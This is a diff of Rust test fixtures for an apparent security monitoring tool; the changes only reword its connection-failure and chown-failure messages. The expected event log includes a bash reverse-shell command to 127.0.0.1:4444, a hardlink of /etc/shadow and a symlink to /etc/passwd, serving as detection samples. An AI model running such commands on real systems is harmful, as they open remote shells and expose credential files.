@@ -26,7 +26,7 @@ fn a_finding_tells_the_whole_story() {
   ATT&CK    T1059.004, T1071 · Execution, Command and Control
   author    @d4ns4n_ (Wuerth-Phoenix), Florian Roth
   user      alice (uid 1000), logged in as the same
-  action    tried: connected to 127.0.0.1:4444 (tcp): Connection refused
+  action    failed to connect to 127.0.0.1:4444 (tcp): Connection refused
   process   /sbin/init [1]
             └─ sshd: alice [priv] [812]
               └─ -bash [4240]
@@ -64,7 +64,7 @@ fn every_event_is_one_line_without_control_characters() {
 00:12:33.123 exec     bash[4242] alice               executed /usr/bin/bash: bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
 00:12:33.123 fork     bash[4242] alice               forked process 4300
 00:12:33.123 exit     bash[4242] alice               exited with code 3
-00:12:33.123 connect  bash[4242] alice               tried: connected to 127.0.0.1:4444 (tcp): Connection refused
+00:12:33.123 connect  bash[4242] alice               failed to connect to 127.0.0.1:4444 (tcp): Connection refused
 00:12:33.123 accept   bash[4242] alice               accepted a connection from [2001:db8::7]:40000 on [::1]:53 (udp)
 00:12:33.123 bind     bash[4242] alice               took the address the UNIX socket /run/x.sock
 00:12:33.123 listen   bash[4242] alice               listens on the UNIX socket /run/x.sock
@@ -72,7 +72,7 @@ fn every_event_is_one_line_without_control_characters() {
 00:12:33.123 unlink   bash[4242] alice               removed /tmp/a\\nb (path incomplete)
 00:12:33.123 rename   bash[4242] alice               renamed /tmp/old to /tmp/new
 00:12:33.123 chmod    bash[4242] alice               set the mode of /tmp/x to 4755
-00:12:33.123 chown    bash[4242] alice               tried: gave /tmp/x to user 0: Operation not permitted
+00:12:33.123 chown    bash[4242] alice               failed to give /tmp/x to user 0: Operation not permitted
 00:12:33.123 link     bash[4242] alice               linked /etc/shadow as /tmp/l
 00:12:33.123 symlink  bash[4242] alice               made the symbolic link /tmp/s to /etc/passwd (result unknown)
 00:12:33.123 lost 17 open events before this point: ring_full
